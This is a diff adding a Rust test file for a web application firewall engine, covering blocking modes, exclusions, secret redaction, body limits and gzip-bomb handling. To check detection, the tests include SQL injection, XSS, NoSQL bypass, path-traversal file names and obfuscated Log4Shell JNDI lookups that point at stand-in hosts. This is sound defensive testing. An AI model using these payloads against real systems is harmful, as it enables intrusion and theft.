@@ -1,0 +1,310 @@
+//! End-to-end behaviour of the engine: verdicts, modes, settings, exclusions, bodies,
+//! redaction and explanations.
+
+use palisade_waf::{
+    Action, Engine, Exclusion, Mode, OverLimit, Request, RouteSettings, RuleSet, WafSettings,
+};
+
+fn engine() -> Engine {
+    Engine::new(RuleSet::embedded().expect("embedded rules compile"))
+}
+
+#[test]
+fn benign_request_passes_and_sqli_is_blocked_with_explanation() {
+    let e = engine();
+    let s = WafSettings::default();
+    let ok = Request::new("GET", "/search?q=the+best+coffee+in+town&page=2")
+        .header("host", b"shop")
+        .header("user-agent", b"Mozilla/5.0");
+    let v = e.inspect(&ok, &s, None);
+    assert_eq!(v.action, Action::Pass, "{:?}", v.matches);
+    assert!(v.matches.is_empty());
+
+    let bad = Request::new("GET", "/search?q=1%27%20OR%20%271%27%3D%271").header("host", b"shop");
+    let v = e.inspect(&bad, &s, None);
+    assert_eq!(v.action, Action::Block);
+    assert_eq!(v.status(), Some(403));
+    assert!(v.score >= 5);
+    let m = v
+        .matches
+        .iter()
+        .find(|m| m.rule_id == 4201)
+        .expect("sqli detector fired");
+    assert_eq!(m.target, "query_arg:q");
+    assert!(m.fragment.contains("OR"), "{}", m.fragment);
+    assert!(m.tags.iter().any(|t| t == "sqli"));
+}
+
+#[test]
+fn modes_off_and_detect() {
+    let e = engine();
+    let bad = Request::new("GET", "/?x=%3Cscript%3Ealert(1)%3C/script%3E");
+    let detect = WafSettings {
+        mode: Mode::Detect,
+        ..WafSettings::default()
+    };
+    let v = e.inspect(&bad, &detect, None);
+    assert_eq!(v.action, Action::Detect);
+    assert_eq!(v.status(), None);
+    assert!(!v.matches.is_empty());
+    let off = WafSettings {
+        mode: Mode::Off,
+        ..WafSettings::default()
+    };
+    let v = e.inspect(&bad, &off, None);
+    assert_eq!(v.action, Action::Pass);
+    assert!(v.matches.is_empty());
+}
+
+#[test]
+fn exclusions_by_rule_argument_and_route() {
+    let e = engine();
+    let req = Request::new("POST", "/posts")
+        .header("content-type", b"application/x-www-form-urlencoded")
+        .body(b"title=hi&body=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
+    let base = WafSettings::default();
+    assert_eq!(e.inspect(&req, &base, None).action, Action::Block);
+
+    let by_arg = WafSettings {
+        exclusions: vec![Exclusion {
+            args: vec!["body".into()],
+            ..Exclusion::default()
+        }],
+        ..WafSettings::default()
+    };
+    let v = e.inspect(&req, &by_arg, None);
+    assert_eq!(v.action, Action::Pass, "{:?}", v.matches);
+
+    let by_tag = WafSettings {
+        exclusions: vec![Exclusion {
+            tags: vec!["xss".into()],
+            ..Exclusion::default()
+        }],
+        ..WafSettings::default()
+    };
+    assert_eq!(e.inspect(&req, &by_tag, None).action, Action::Pass);
+
+    let ids: Vec<u32> = e
+        .inspect(&req, &base, None)
+        .matches
+        .iter()
+        .map(|m| m.rule_id)
+        .collect();
+    let by_route = WafSettings {
+        exclusions: vec![Exclusion {
+            rules: ids,
+            routes: vec!["cms".into()],
+            ..Exclusion::default()
+        }],
+        ..WafSettings::default()
+    };
+    assert_eq!(e.inspect(&req, &by_route, Some("cms")).action, Action::Pass);
+    assert_eq!(
+        e.inspect(&req, &by_route, Some("api")).action,
+        Action::Block
+    );
+    assert_eq!(e.inspect(&req, &by_route, None).action, Action::Block);
+}
+
+#[test]
+fn route_overrides_mode_paranoia_and_threshold() {
+    let e = engine();
+    let mut s = WafSettings::default();
+    s.routes.insert(
+        "legacy".into(),
+        RouteSettings {
+            mode: Some(Mode::Detect),
+            ..RouteSettings::default()
+        },
+    );
+    s.routes.insert(
+        "strict".into(),
+        RouteSettings {
+            paranoia: Some(2),
+            ..RouteSettings::default()
+        },
+    );
+    s.routes.insert(
+        "lenient".into(),
+        RouteSettings {
+            threshold: Some(100),
+            ..RouteSettings::default()
+        },
+    );
+    let bad = Request::new("GET", "/?id=1%20union%20select%20password%20from%20users");
+    assert_eq!(e.inspect(&bad, &s, Some("legacy")).action, Action::Detect);
+    assert_eq!(e.inspect(&bad, &s, Some("lenient")).action, Action::Pass);
+    assert_eq!(e.inspect(&bad, &s, None).action, Action::Block);
+    // A paranoia-2 rule (single ../ in an argument) fires only on the strict route.
+    let p2 = Request::new("GET", "/?file=..%2Fconfig.yml");
+    assert_eq!(e.inspect(&p2, &s, None).action, Action::Pass);
+    assert_eq!(e.inspect(&p2, &s, Some("strict")).action, Action::Block);
+}
+
+#[test]
+fn secrets_are_redacted_in_matches() {
+    let e = engine();
+    let req = Request::new("GET", "/")
+        .header("authorization", b"Bearer ${jndi:ldap://evil/a}")
+        .header("cookie", b"session=${jndi:ldap://evil/b}")
+        .header("x-api-version", b"${jndi:ldap://evil/c}");
+    let v = e.inspect(&req, &WafSettings::default(), None);
+    assert_eq!(v.action, Action::Block);
+    for m in &v.matches {
+        if m.target == "header:authorization"
+            || m.target.starts_with("cookie")
+            || m.target == "header:cookie"
+        {
+            assert_eq!(m.fragment, "[redacted]", "{m:?}");
+        }
+    }
+    assert!(v
+        .matches
+        .iter()
+        .any(|m| m.target == "header:x-api-version" && m.fragment.contains("jndi")));
+    assert!(!format!("{:?}", v.matches).contains("evil/a"));
+}
+
+#[test]
+fn body_limit_rejects_or_inspects_prefix() {
+    let e = engine();
+    let mut body = b"a=".to_vec();
+    body.extend(std::iter::repeat_n(b'x', 100));
+    body.extend_from_slice(b"&b=%3Cscript%3E");
+    let req = Request::new("POST", "/f")
+        .header("content-type", b"application/x-www-form-urlencoded")
+        .body(&body);
+    let reject = WafSettings {
+        body_limit: 50,
+        ..WafSettings::default()
+    };
+    let v = e.inspect(&req, &reject, None);
+    assert_eq!(v.action, Action::Block);
+    assert!(v.body_over_limit);
+    assert_eq!(v.status(), Some(413));
+    let prefix = WafSettings {
+        body_limit: 50,
+        over_limit: OverLimit::InspectPrefix,
+        ..WafSettings::default()
+    };
+    assert_eq!(e.inspect(&req, &prefix, None).action, Action::Pass);
+    let whole = WafSettings::default();
+    assert_eq!(e.inspect(&req, &whole, None).action, Action::Block);
+}
+
+#[test]
+fn json_and_multipart_bodies_are_inspected_by_name() {
+    let e = engine();
+    let json = br#"{"user":{"profile":{"bio":"<img src=x onerror=alert(1)>"}},"tags":["a","b"]}"#;
+    let req = Request::new("POST", "/api")
+        .header("content-type", b"application/json")
+        .body(json);
+    let v = e.inspect(&req, &WafSettings::default(), None);
+    assert_eq!(v.action, Action::Block);
+    assert!(
+        v.matches
+            .iter()
+            .any(|m| m.target == "body_arg:user.profile.bio"),
+        "{:?}",
+        v.matches
+    );
+
+    let nosql = br#"{"user":"admin","password":{"$ne":null}}"#;
+    let req = Request::new("POST", "/login")
+        .header("content-type", b"application/json")
+        .body(nosql);
+    assert_eq!(
+        e.inspect(&req, &WafSettings::default(), None).action,
+        Action::Block
+    );
+
+    let mp = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\n\r\ndata\r\n--b--\r\n";
+    let req = Request::new("POST", "/upload")
+        .header("content-type", b"multipart/form-data; boundary=b")
+        .body(mp);
+    let v = e.inspect(&req, &WafSettings::default(), None);
+    assert!(
+        v.matches.iter().any(|m| m.target == "file_name:f"),
+        "{:?}",
+        v.matches
+    );
+}
+
+#[test]
+fn fragments_are_truncated_to_64_bytes() {
+    let e = engine();
+    let long = format!("/?q=%3Cscript%3E{}", "A".repeat(300));
+    let req = Request::new("GET", &long);
+    let v = e.inspect(&req, &WafSettings::default(), None);
+    assert!(!v.matches.is_empty());
+    assert!(v.matches.iter().all(|m| m.fragment.len() <= 64 * 4));
+    assert!(v.matches.iter().all(|m| m.fragment.chars().count() <= 64));
+}
+
+#[test]
+fn log4shell_in_any_header_and_obfuscated() {
+    let e = engine();
+    for (h, val) in [
+        ("user-agent", "${jndi:ldap://x/a}"),
+        ("x-forwarded-for", "${${lower:j}ndi:ldap://x/a}"),
+        ("referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
+        ("x-custom", "${j${env:X:-n}di:dns://x}"),
+    ] {
+        let req = Request::new("GET", "/").header(h, val.as_bytes());
+        assert_eq!(
+            e.inspect(&req, &WafSettings::default(), None).action,
+            Action::Block,
+            "{h}: {val}"
+        );
+    }
+}
+
+#[test]
+fn settings_default_from_empty_document() {
+    let s: WafSettings = serde_json::from_str("{}").expect("empty settings parse");
+    assert_eq!(s, WafSettings::default());
+    assert_eq!(s.mode, Mode::Block);
+    assert_eq!(s.paranoia, 1);
+    assert_eq!(s.threshold, 5);
+    let round: WafSettings =
+        serde_json::from_str(&serde_json::to_string(&s).expect("serialize")).expect("parse");
+    assert_eq!(round, s);
+}
+
+#[test]
+fn gzip_bodies_are_inspected_and_bombs_refused() {
+    use std::io::Write;
+    let gzip = |data: &[u8]| {
+        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        enc.write_all(data).expect("compress");
+        enc.finish().expect("finish")
+    };
+    let e = engine();
+    let body = gzip(b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
+    let req = Request::new("POST", "/c")
+        .header("content-type", b"application/x-www-form-urlencoded")
+        .header("content-encoding", b"gzip")
+        .body(&body);
+    let v = e.inspect(&req, &WafSettings::default(), None);
+    assert_eq!(v.action, Action::Block);
+    assert!(
+        v.matches.iter().any(|m| m.target == "body_arg:comment"),
+        "{:?}",
+        v.matches
+    );
+
+    let bomb = gzip(&vec![b'a'; 1 << 20]);
+    let req = Request::new("POST", "/c")
+        .header("content-encoding", b"gzip")
+        .body(&bomb);
+    let v = e.inspect(&req, &WafSettings::default(), None);
+    assert_eq!(v.status(), Some(413));
+
+    let req = Request::new("POST", "/c")
+        .header("content-encoding", b"gzip")
+        .body(b"garbage");
+    assert_eq!(
+        e.inspect(&req, &WafSettings::default(), None).status(),
+        Some(400)
+    );
+}
